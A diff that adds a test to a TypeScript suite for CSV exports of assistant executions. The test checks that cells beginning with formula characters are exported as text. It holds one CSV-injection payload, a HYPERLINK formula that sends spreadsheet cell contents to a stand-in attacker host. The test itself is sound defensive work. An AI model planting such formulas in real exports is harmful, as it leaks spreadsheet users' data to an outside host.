@@ -81,6 +81,25 @@ describe('exports by URL', () => {
     expect(Object.keys(executionsCsv[0]!)).toEqual(['id', 'assistant', 'user', 'status', 'created_at', 'started_at', 'finished_at', 'duration_ms', 'total_tokens', 'error', 'input']);
   });
 
+  it('writes a cell a spreadsheet would take for a formula as text', async () => {
+    const admin = app.client('admin');
+    const [model] = await admin.assistants.models.query();
+    const name = '=HYPERLINK("http://attacker.example/?"&A1,"Click")';
+    const assistant = await admin.assistants.create.mutate({
+      name,
+      visibility: 'private',
+      prompts: [{ name: '+Step', position: 1, modelId: model!, content: 'Say -1 and @someone' }],
+    });
+    const { executionId } = await admin.executions.execute.mutate({ assistantId: assistant.id, input: {} });
+    await collectExecutionEvents(admin, { executionId }).completed;
+    const csv = await (await get(`/api/executions.csv?assistantName=${encodeURIComponent('HYPERLINK')}`, 'admin')).text();
+    const rows = parse(csv, { columns: true }) as Array<Record<string, string>>;
+    expect(rows).toHaveLength(1);
+    // A leading ' makes spreadsheets show the cell as text; numbers (e.g. a negative one) stay numbers.
+    expect(rows[0]!.assistant).toBe(`'${name}`);
+    expect(rows[0]!.duration_ms).toMatch(/^\d+$/);
+  });
+
   it('answers with the API’s rules and clear errors', async () => {
     expect((await get(`/api/executions/${adminRun}/events.csv`)).status).toBe(401);
     // Someone else's execution answers exactly like one that does not exist.
